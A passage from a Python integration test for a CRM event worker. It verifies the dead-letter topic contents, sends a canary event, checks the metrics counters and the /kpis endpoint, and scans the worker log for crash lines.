        (None if d["key_base64"] is None else base64.b64decode(d["key_base64"]), base64.b64decode(d["original_base64"]),
         d["reason"])
        for d in letters
    )  # fmt: skip
    want = Counter((m.key, m.value, m.expect) for m in bad)
    if got != want:
        problems.append(f"missing from the dead-letter topic: {describe(want - got)}")
        problems.append(f"unexpected on the dead-letter topic: {describe(got - want)}")
    check("dead letters", len(records), len(bad))
    check("source topics", {d["source"]["topic"] for d in letters}, {topic})
    check("distinct sources", len({(d["source"]["partition"], d["source"]["offset"]) for d in letters}), len(letters))
    check("dead letters keyed by the original key", [r.key for r in records],
          [None if d["key_base64"] is None else base64.b64decode(d["key_base64"]) for d in letters])  # fmt: skip
    check("schema_version 1 and an error detail", all(d["schema_version"] == 1 and d["error"] for d in letters), True)

    # Still alive and still processing: one more valid event goes through, and /metrics answers.
    canary = {"event_id": "canary-1", "type": "lead.created", "occurred_at": T0 + 2 * DAY, "lead_id": "canary",
              "payload": {"source": "web"}}  # fmt: skip
    before = processed.get("lead.created", 0) + duplicate.get("lead.created", 0)
    worker.send(canary)
    try:
        worker.wait_for(lambda got: got[("crm_events_processed_total", (("type", "lead.created"),))]
                        + got[("crm_events_duplicate_total", (("type", "lead.created"),))] == before + 1,
                        what="the canary event", timeout=30)  # fmt: skip
    except AssertionError as error:
        problems.append(f"canary: {error}")
    check("worker exit code", worker.process.poll(), None)
    check("GET /kpis status", worker.get_json("/kpis")[0], 200)
    crashes = [line for line in worker.log_path.read_text(errors="replace").splitlines() if "Crashed reason=" in line]
    check("agent crashes in the worker log", [c[c.index("[ERROR]"):][:300] for c in crashes], [])
    assert not problems, f"{len(problems)} problems (seed {SEED}):\n" + "\n".join(problems)
